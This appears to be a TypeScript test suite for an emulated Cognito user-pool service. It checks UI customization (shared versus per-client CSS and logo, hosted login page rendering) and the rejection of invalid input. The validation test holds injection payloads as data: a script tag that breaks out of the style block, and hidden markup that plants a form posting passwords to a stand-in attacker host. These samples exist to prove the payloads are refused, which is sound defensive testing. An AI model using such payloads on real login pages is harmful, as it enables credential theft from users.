import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import {
  GetUICustomizationCommand,
  SetUICustomizationCommand,
} from "@aws-sdk/client-cognito-identity-provider";
import { CALLBACK, createOAuthClient } from "../oauth/helpers.ts";
import { createPoolAndClient, rejectsWith } from "../support/fixtures.ts";
import { BACKENDS, startTestServer, type TestServer } from "../support/server.ts";

// A 1×1 PNG.
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
  "base64",
);
const CSS = ".submitButton-customizable { background-color: #123456; } .banner-customizable{padding:5px}";

for (const backend of BACKENDS) {
  describe(backend, () => {
    let t: TestServer;
    before(async () => {
      t = await startTestServer({ backend });
    });
    after(() => t.close());

    const loginPage = async (poolId: string, clientId: string) => {
      const params = new URLSearchParams({
        response_type: "code",
        client_id: clientId,
        redirect_uri: CALLBACK,
      });
      const res = await fetch(`${t.url}/${poolId}/login?${params}`);
      assert.equal(res.status, 200);
      return res.text();
    };

    test("ALL settings apply to every client until a client has its own; the hosted page uses them", async () => {
      const { poolId } = await createPoolAndClient(t.idp);
      const { clientId } = await createOAuthClient(t.idp, poolId);
      const { clientId: other } = await createOAuthClient(t.idp, poolId);

      const empty = await t.idp.send(
        new GetUICustomizationCommand({ UserPoolId: poolId, ClientId: clientId }),
      );
      assert.deepEqual(empty.UICustomization, { UserPoolId: poolId, ClientId: clientId });

      const set = await t.idp.send(
        new SetUICustomizationCommand({ UserPoolId: poolId, CSS, ImageFile: new Uint8Array(PNG) }),
      );
      const ui = set.UICustomization!;
      assert.equal(ui.UserPoolId, poolId);
      assert.equal(ui.ClientId, "ALL");
      assert.equal(ui.CSS, CSS);
      assert.ok(ui.CSSVersion);
      assert.ok(ui.CreationDate instanceof Date && ui.LastModifiedDate instanceof Date);
      assert.equal(ui.ImageUrl, `${t.url}/${poolId}/ui/logo/ALL`);
      const logo = await fetch(ui.ImageUrl!);
      assert.equal(logo.status, 200);
      assert.equal(logo.headers.get("content-type"), "image/png");
      assert.deepEqual(Buffer.from(await logo.arrayBuffer()), PNG);

      const viaClient = await t.idp.send(
        new GetUICustomizationCommand({ UserPoolId: poolId, ClientId: clientId }),
      );
      assert.equal(viaClient.UICustomization?.ClientId, "ALL");
      assert.equal(viaClient.UICustomization?.CSS, CSS);
      let html = await loginPage(poolId, clientId);
      assert.ok(html.includes(`${CSS}</style>`));
      assert.match(html, new RegExp(`<img class="logo-customizable" src="/${poolId}/ui/logo/ALL"`));
      assert.match(html, /<button class="submitButton-customizable"/);

      // The client's own settings (CSS only): no logo, no fallback to ALL.
      const own = ".background-customizable { background-color: white; }";
      await t.idp.send(new SetUICustomizationCommand({ UserPoolId: poolId, ClientId: clientId, CSS: own }));
      const mine = (
        await t.idp.send(new GetUICustomizationCommand({ UserPoolId: poolId, ClientId: clientId }))
      ).UICustomization!;
      assert.equal(mine.ClientId, clientId);
      assert.equal(mine.CSS, own);
      assert.equal(mine.ImageUrl, undefined);
      html = await loginPage(poolId, clientId);
      assert.ok(html.includes(`${own}</style>`));
      assert.ok(!html.includes(CSS));
      assert.doesNotMatch(html, /<img /);
      // The other client still gets ALL.
      assert.ok((await loginPage(poolId, other)).includes(CSS));
    });

    test("refuses CSS outside the customizable classes, at-rules, markup, a non-image, an unknown client", async () => {
      const { poolId } = await createPoolAndClient(t.idp);
      const set = (req: { CSS?: string; ImageFile?: Uint8Array; ClientId?: string }) =>
        t.idp.send(new SetUICustomizationCommand({ UserPoolId: poolId, ...req }));
      await rejectsWith(
        set({ CSS: "body { color: red; }" }),
        "InvalidParameterException",
        "CSS selector body is not one of the customizable classes.",
      );
      await rejectsWith(set({ CSS: "@import url(x.css);" }), "InvalidParameterException");
      await rejectsWith(
        set({ CSS: ".label-customizable { color: red; } </style><script>alert(1)</script>" }),
        "InvalidParameterException",
      );
      // Markup hidden in a comment: the CSS goes into the page with its comments (security review).
      await rejectsWith(
        set({
          CSS: ".logo-customizable{color:red}/*</style><form action=https://evil.example/steal method=post><input name=password></form><style>*/",
        }),
        "InvalidParameterException",
        "CSS must not contain at-rules, script or markup.",
      );
      await rejectsWith(
        set({ ImageFile: new TextEncoder().encode("GIF89a not a png") }),
        "InvalidParameterException",
        "ImageFile must be a PNG or JPEG image.",
      );
      await rejectsWith(
        set({ CSS, ClientId: "1example23456789" }),
        "ResourceNotFoundException",
        "User pool client 1example23456789 does not exist.",
      );
      // Nothing was stored by the refused calls.
      const got = await t.idp.send(new GetUICustomizationCommand({ UserPoolId: poolId }));
      assert.deepEqual(got.UICustomization, { UserPoolId: poolId, ClientId: "ALL" });
      await rejectsWith(
        t.idp.send(new GetUICustomizationCommand({ UserPoolId: "us-east-1_nopool" })),
        "ResourceNotFoundException",
        "User pool us-east-1_nopool does not exist.",
      );
    });
  });
}
